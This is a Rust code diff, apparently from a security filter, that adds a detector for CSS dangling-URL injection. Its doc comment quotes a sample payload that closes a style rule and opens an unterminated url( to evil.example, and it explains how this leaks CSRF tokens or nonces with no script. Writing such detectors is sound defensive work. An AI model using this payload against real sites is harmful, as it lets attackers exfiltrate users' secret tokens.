@@ -196,17 +196,78 @@ pub fn selector_exfiltration(v: &str) -> bool {
 /// Whether a CSS declaration block loads a `url(` on another host (`//host`, `http(s):`).
 fn external_url(block: &[u8]) -> bool {
     memchr::memchr_iter(b'(', block).any(|p| {
-        p >= 3 && block[p - 3..p].eq_ignore_ascii_case(b"url") && {
-            let u = block[p + 1..].trim_ascii_start();
-            let u = u
-                .strip_prefix(b"\"")
-                .or_else(|| u.strip_prefix(b"'"))
-                .unwrap_or(u);
-            u.starts_with(b"//")
-                || (u.len() > 7 && u[..7].eq_ignore_ascii_case(b"http://"))
-                || (u.len() > 8 && u[..8].eq_ignore_ascii_case(b"https://"))
-        }
+        p >= 3
+            && block[p - 3..p].eq_ignore_ascii_case(b"url")
+            && remote_target(&block[p + 1..]).is_some()
     })
+}
+
+/// After a `url(`: the quote that opens its argument (0 when unquoted) and the offset of the
+/// host's `//` when the URL is on another host (`//host`, `http(s)://host`).
+fn remote_target(u: &[u8]) -> Option<(u8, usize)> {
+    let lead = u.len() - u.trim_ascii_start().len();
+    let (q, at) = match u.get(lead) {
+        Some(&c @ (b'"' | b'\'')) => (c, lead + 1),
+        _ => (0, lead),
+    };
+    let t = &u[at..];
+    let host = if t.starts_with(b"//") {
+        0
+    } else if t.len() > 7 && t[..7].eq_ignore_ascii_case(b"http://") {
+        5
+    } else if t.len() > 8 && t[..8].eq_ignore_ascii_case(b"https://") {
+        6
+    } else {
+        return None;
+    };
+    Some((q, at + host))
+}
+
+/// `url(`s examined per value by [`dangling_remote_url`].
+const MAX_URLS: usize = 16;
+
+/// `";}body{background:url('//evil.example/leak?`: the value closes the declaration or rule
+/// it lands in, opens a rule of its own (a selector and `{`), and leaves a `url(` to another
+/// host unterminated. The style sheet's tokenizer then reads the page text that follows as
+/// the rest of that URL, up to the next matching quote or parenthesis, and the browser
+/// requests it from the attacker's host: the CSRF token or nonce in that text leaks with no
+/// script. A style the site keeps (`.hero{background:url(https://cdn.example/a.png)}`,
+/// `background:url(/img/a.png)`) closes its URL; a URL without a rule the value opened is a
+/// property value, not a new rule.
+pub fn dangling_remote_url(v: &str) -> bool {
+    let b = v.as_bytes();
+    let b = &b[..b.len().min(MAX_CSS)];
+    for p in memchr::memchr_iter(b'(', b)
+        .filter(|&p| p >= 3 && b[p - 3..p].eq_ignore_ascii_case(b"url"))
+        .take(MAX_URLS)
+    {
+        let Some((q, host)) = remote_target(&b[p + 1..]) else {
+            continue;
+        };
+        let after = &b[p + 1 + host + 2..];
+        let closer = if q == 0 { b')' } else { q };
+        if after.contains(&closer) {
+            continue;
+        }
+        // the block this `url(` stands in was opened by the value: a `{` after a selector,
+        // with no `}` between it and the URL
+        let before = &b[..p - 3];
+        let Some(open) = memchr::memrchr2(b'{', b'}', before) else {
+            return false;
+        };
+        if before[open] == b'}' {
+            continue;
+        }
+        let sel = before[..open].trim_ascii_end();
+        if sel.last().is_some_and(|&c| {
+            c.is_ascii_alphanumeric() || matches!(c, b']' | b')' | b'*' | b'-' | b'_')
+        }) {
+            return true;
+        }
+        // the first unterminated `url(` swallows the rest
+        return false;
+    }
+    false
 }
 
 #[cfg(test)]
